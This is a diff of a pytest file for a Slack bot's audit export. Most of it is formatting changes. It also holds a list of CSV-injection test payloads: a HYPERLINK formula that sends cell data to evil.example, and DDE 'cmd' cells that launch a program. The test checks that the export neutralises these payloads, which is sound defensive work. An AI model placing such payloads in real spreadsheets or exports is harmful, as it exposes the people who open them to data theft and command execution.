@@ -11,9 +11,9 @@ from pathlib import Path
 
 import pytest
 
-from bot.slack import blocks
 from bot.cli import main
 from bot.dev.sandbox import Sandbox
+from bot.slack import blocks
 from tests.support.harness import BotHarness
 from tests.support.process import clean_env
 
@@ -47,8 +47,9 @@ def test_the_trail_records_who_did_what_through_which_surface(bot: BotHarness, s
     assert _events(bot, outside)[-1] == ("state_changed", "leadlex", "leadlex")
 
 
-def test_audit_command_exports_csv_and_json(bot: BotHarness, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch,
-                                            capsys: pytest.CaptureFixture[str]) -> None:
+def test_audit_command_exports_csv_and_json(
+    bot: BotHarness, sandbox: Sandbox, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
     """`lexi-bot audit` writes the trail as CSV (default) or JSON, and --since filters it."""
     task_id = sandbox.add_task()["id"]
     bot.poll()
@@ -70,8 +71,14 @@ def test_audit_command_exports_csv_and_json(bot: BotHarness, sandbox: Sandbox, m
 
 
 #: Cells a spreadsheet would run as a formula (OWASP's CSV injection list), as users and LeadLex could supply them.
-HOSTILE_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3",
-                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE_CELLS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"details")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_csv_export_neutralises_formulas_in_every_column(bot: BotHarness, sandbox: Sandbox, tmp_path: Path) -> None:
@@ -85,8 +92,14 @@ def test_csv_export_neutralises_formulas_in_every_column(bot: BotHarness, sandbo
 
     def export(fmt: str) -> str:
         """The export, as the CLI writes it to standard output."""
-        done = subprocess.run([sys.executable, "-m", "bot.cli", "audit", "--format", fmt], env=env, cwd=tmp_path,
-                              capture_output=True, timeout=60, check=False)
+        done = subprocess.run(
+            [sys.executable, "-m", "bot.cli", "audit", "--format", fmt],
+            env=env,
+            cwd=tmp_path,
+            capture_output=True,
+            timeout=60,
+            check=False,
+        )
         assert done.returncode == 0, done.stderr
         return done.stdout.decode()
 
@@ -94,8 +107,12 @@ def test_csv_export_neutralises_formulas_in_every_column(bot: BotHarness, sandbo
     assert [r["task_id"] for r in rows if r["event"] == "announced"] == [f"'{announced}"]
     hostile = [r for r in rows if r["event"] == "refused"]
     for row, cell in zip(hostile, HOSTILE_CELLS, strict=True):
-        assert [row[c] for c in ("task_id", "actor", "surface", "detail")] == [f"'{cell}", f"'{cell[:16]}",
-                                                                               f"'{cell[:16]}", f"'{cell}"]
+        assert [row[c] for c in ("task_id", "actor", "surface", "detail")] == [
+            f"'{cell}",
+            f"'{cell[:16]}",
+            f"'{cell[:16]}",
+            f"'{cell}",
+        ]
     plain = rows[-1]
     assert (plain["task_id"], plain["actor"], plain["detail"]) == ("task-uuid-1", "UALICE", "plain = text")
     raw = [e for e in json.loads(export("json")) if e["event"] == "refused"]
